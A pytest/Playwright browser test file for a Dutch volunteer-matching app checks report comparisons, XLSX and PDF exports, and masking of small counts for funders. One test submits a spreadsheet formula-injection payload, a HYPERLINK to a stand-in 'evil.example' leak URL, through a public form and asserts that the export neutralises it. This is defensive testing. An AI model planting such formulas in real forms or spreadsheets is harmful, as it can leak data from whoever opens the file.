"""The coordinator compares the two Utrecht Zuid years and downloads the report; the
funder sees only totals, small cells as "<5", in Chromium."""

import datetime as dt
import io
import re
from io import StringIO

import pytest
from django.core.management import call_command
from playwright.sync_api import expect

from tijdvoorelkaar.core.testing import assert_accessible, sign_in_with_password
from tijdvoorelkaar.demo import seed as demo
from tijdvoorelkaar.workspace.confidential import save_background

pytestmark = pytest.mark.browser


def _setup():
    areas = demo.seed_areas()
    demo.seed_users(areas)
    call_command("seed_demo", scenario="utrecht-zuid-2005", stdout=StringIO())


def _compare_years(page):
    page.goto("/utrecht-zuid-2005/verslag/")
    assert_accessible(page)
    page.fill("#id_van", "2005-07-01")
    page.fill("#id_tot", "2006-06-30")
    page.fill("#id_vergelijk_van", "2006-07-01")
    page.fill("#id_vergelijk_tot", "2007-06-30")
    page.click("button:has-text('Verslag tonen')")
    page.wait_for_load_state()


def _row(page, table: str, label: str) -> list[str]:
    row = page.locator(f"table[data-table='{table}'] tr", has_text=label).first
    return [cell.strip() for cell in row.locator("td").all_inner_texts()]


def test_coordinator_compares_the_two_years_and_downloads_xlsx_and_pdf(page):
    from openpyxl import load_workbook
    from pypdf import PdfReader

    _setup()
    sign_in_with_password(
        page, "utrecht-zuid-2005", "coordinator@utrecht-zuid.test", "tijdvoorelkaar"
    )
    _compare_years(page)
    assert _row(page, "bemiddelingen", "Bemiddelingen tussen bewoners") == ["48", "141", "2,9"]
    assert _row(page, "bemiddelingen", "Geslaagde koppelingen") == ["30", "54", "1,8"]
    assert _row(page, "advertenties", "Reacties op advertenties") == ["75", "122", "1,6"]
    assert page.locator("svg[role='img']").count() >= 2
    assert_accessible(page)

    with page.expect_download() as xlsx:
        page.click("text=Alle tabellen als Excel (XLSX)")
    assert xlsx.value.suggested_filename.endswith(".xlsx")
    with open(xlsx.value.path(), "rb") as handle:
        book = load_workbook(io.BytesIO(handle.read()))
    rows = [[c.value for c in row] for row in book["Bemiddelingen en koppelingen"].iter_rows()]
    assert ["Bemiddelingen tussen bewoners", 48, 141, 2.9] in rows
    assert ["waarvan actief ondersteund door de makelaar", 35, 76, 2.2] in rows

    with page.expect_download() as pdf:
        page.click("text=Verslag als PDF (voor de gemeente)")
    with open(pdf.value.path(), "rb") as handle:
        reader = PdfReader(io.BytesIO(handle.read()))
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert re.search(r"Bemiddelingen tussen bewoners\s+48\s+141\s+2,9", text)
    assert re.search(r"Reacties op advertenties\s+75\s+122\s+1,6", text)
    assert "1-7-2005 t/m 30-6-2006" in text


def test_coordinator_with_roosjes_on_sees_the_roosjes_table_and_downloads_pdf_and_xlsx(page):
    """Utrecht Zuid 2005-2007 has Roosjes on (3,736 issued over the two years): the
    coordinator sees them in the report, side by side with growth, and in both files,
    the XLSX with numbers as numbers."""
    from openpyxl import load_workbook
    from pypdf import PdfReader

    _setup()
    sign_in_with_password(
        page, "utrecht-zuid-2005", "coordinator@utrecht-zuid.test", "tijdvoorelkaar"
    )
    _compare_years(page)
    expect(page.locator("#tabel-roosjes")).to_be_visible()
    issued = "Roosjes uitgegeven (uren): door organisaties en het project"
    assert _row(page, "roosjes", issued) == ["1.412", "2.324", "1,6"]
    assert _row(page, "roosjes", "Organisaties die Roosjes uitgaven") == ["4", "4", "1"]
    assert "staan in dit werkgebied uit" not in page.inner_text("main")
    assert_accessible(page)
    page.set_viewport_size({"width": 390, "height": 844})
    assert_accessible(page)
    page.set_viewport_size({"width": 1280, "height": 900})

    with page.expect_download() as xlsx:
        page.click("text=Alle tabellen als Excel (XLSX)")
    with open(xlsx.value.path(), "rb") as handle:
        book = load_workbook(io.BytesIO(handle.read()))
    rows = {row[0].value: row[1:] for row in book["Roosjes"].iter_rows(min_row=4)}
    assert [c.value for c in rows[issued]] == [1412, 2324, 1.6]
    assert [c.data_type for c in rows[issued]] == ["n", "n", "n"]
    assert rows[issued][2].number_format == "#,##0.0"
    for row in book["Roosjes"].iter_rows(min_row=4):
        assert all(cell.data_type == "n" for cell in row[1:3]), row[0].value
    assert all(len(name) <= 31 for name in book.sheetnames)

    with page.expect_download() as pdf:
        page.click("text=Verslag als PDF (voor de gemeente)")
    with open(pdf.value.path(), "rb") as handle:
        reader = PdfReader(io.BytesIO(handle.read()))
    text = "\n".join(p.extract_text() for p in reader.pages)
    assert "Roosjes (tijdtegoed)" in text
    assert re.search(r"Organisaties die Roosjes uitgaven\s+4\s+4\s+1", text)
    assert f"Pagina 1 van {len(reader.pages)}" in text


def test_funder_chooses_fixed_periods_and_sees_small_cells_as_less_than_five(page):
    from tijdvoorelkaar.areas.models import Area
    from tijdvoorelkaar.reports.services import kpi

    _setup()
    area = Area.objects.get(slug="utrecht-zuid-2005")
    exact = [kpi(area, dt.date(year, 1, 1), dt.date(year, 12, 31)) for year in (2006, 2007)]
    sign_in_with_password(
        page, "utrecht-zuid-2005", "financier@utrecht-zuid.test", "tijdvoorelkaar"
    )
    page.goto("/utrecht-zuid-2005/verslag/?van=2005-07-01&tot=2006-06-30")
    assert "alleen over een vaste periode" in page.inner_text("main")
    assert_accessible(page)
    page.select_option("#id_periode", "2006-01-01_2006-12-31")
    page.select_option("#id_vergelijk", "2007-01-01_2007-12-31")
    page.click("button:has-text('Verslag tonen')")
    page.wait_for_load_state()
    assert page.url.endswith(
        "?van=2006-01-01&tot=2006-12-31&vergelijk_van=2007-01-01&vergelijk_tot=2007-12-31"
    )
    assert "Aantallen kleiner dan 5" in page.content()
    a, b = exact[0]["mediations_total"], exact[1]["mediations_total"]
    factor = f"{round(b / a, 1)}".replace(".", ",")
    assert _row(page, "bemiddelingen", "Bemiddelingen tussen bewoners") == [str(a), str(b), factor]
    referrals = _row(page, "verwijzers", "Huisartsenpraktijk Hoograven")
    assert referrals == ["<5", "<5", ""]
    main = page.inner_text("main")
    for name in ("Deelnemer 1", "Petra", "Sanne", "Jansen"):
        assert name not in main
    assert_accessible(page)
    page.set_viewport_size({"width": 390, "height": 844})
    assert_accessible(page)


EVIL = '=HYPERLINK("http://evil.example/?leak","Klik hier")'


def _download_xlsx(page):
    from openpyxl import load_workbook

    with page.expect_download() as xlsx:
        page.click("text=Alle tabellen als Excel (XLSX)")
    with open(xlsx.value.path(), "rb") as handle:
        return load_workbook(io.BytesIO(handle.read()))


def test_funder_and_coordinator_download_the_same_year_of_a_small_area(page):
    from tijdvoorelkaar.accounts.models import User
    from tijdvoorelkaar.core import clock, spreadsheet
    from tijdvoorelkaar.organisations.models import IncomingReferral
    from tijdvoorelkaar.organisations.services import accept_referral
    from tijdvoorelkaar.participants.tests.factories import participant
    from tijdvoorelkaar.reports import exports, funder, periods, tables
    from tijdvoorelkaar.reports.services import kpi

    area = demo.seed()["utrecht-zuid"]
    # A couple of residents more: one referred through the public form by someone who
    # types a formula as organisation, one whose background the broker fills in.
    page.goto("/utrecht-zuid/doorverwijzen/")
    page.fill("#id_first_name", "Gerrit")
    page.fill("#id_phone", "06 1111 2222")
    page.fill("#id_organisation_name", EVIL)
    page.fill("#id_referrer_name", "Dokter Smit")
    page.check("#id_resident_consent")
    page.click("button:has-text('Doorverwijzing versturen')")
    page.wait_for_load_state()
    assert "/doorverwijzen/verstuurd/" in page.url
    accept_referral(
        referral=IncomingReferral.objects.get(organisation_name=EVIL),
        broker=User.objects.get(email="makelaar@utrecht-zuid.test"),
    )
    resident = participant(area, "Fatima")
    save_background(
        participant=resident,
        broker=User.objects.get(email="makelaar@utrecht-zuid.test"),
        data={"gender": "vrouw", "birth_year": 1948, "origin": "marokkaans"},
    )

    today = clock.today()
    year = periods.FixedPeriod(periods.YEAR, today.year)
    sign_in_with_password(page, "utrecht-zuid", "financier@utrecht-zuid.test", "tijdvoorelkaar")
    page.goto("/utrecht-zuid/verslag/")
    page.select_option("#id_periode", year.value)
    page.click("button:has-text('Verslag tonen')")
    page.wait_for_load_state()
    book = _download_xlsx(page)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    ((figures, hidden),) = funder.funder_report(area, [year], today)
    report = tables.build([figures], masked=True, hidden=[hidden])
    names = exports.sheet_names(report)
    for table in report.tables:
        sheet = book[names[table.key]]
        shown = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=4)}
        for row in table.rows:
            value = shown[spreadsheet.neutralise(row.label)]
            if report.is_hidden(row, 0):
                assert value == "<5", (table.title, row.label)
            else:
                assert value != "<5", (table.title, row.label)
                if row.kind == "count" and row.values[0] is not None:
                    assert isinstance(value, int) and (value == 0 or value >= 5)
    assert "Marokkaans" in [cell.value for cell in cells]

    page.context.clear_cookies()
    sign_in_with_password(page, "utrecht-zuid", "coordinator@utrecht-zuid.test", "tijdvoorelkaar")
    page.goto(f"/utrecht-zuid/verslag/?van={year.start}&tot={year.end}")
    book = _download_xlsx(page)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    exact = kpi(area, year.start, year.end)
    people = {row[0].value: row[1].value for row in book["Deelnemers"].iter_rows(min_row=4)}
    assert people["Nieuw aangemeld"] == exact["participants_new"]
    assert people["Totaal aangemeld aan het eind van de periode"] == exact["participants_total"]
    sheet = book["Samenstelling land van herkomst"]
    origin = {row[0].value: row[1] for row in sheet.iter_rows(min_row=4)}
    assert origin["Marokkaans"].value == exact["composition"]["origin"]["marokkaans"]
    assert origin["Marokkaans"].data_type == "n"
    sheet = next(sheet for sheet in book if sheet.title.startswith("Doorverwijzingen"))
    assert "'" + EVIL in [row[0].value for row in sheet.iter_rows(min_row=4)]
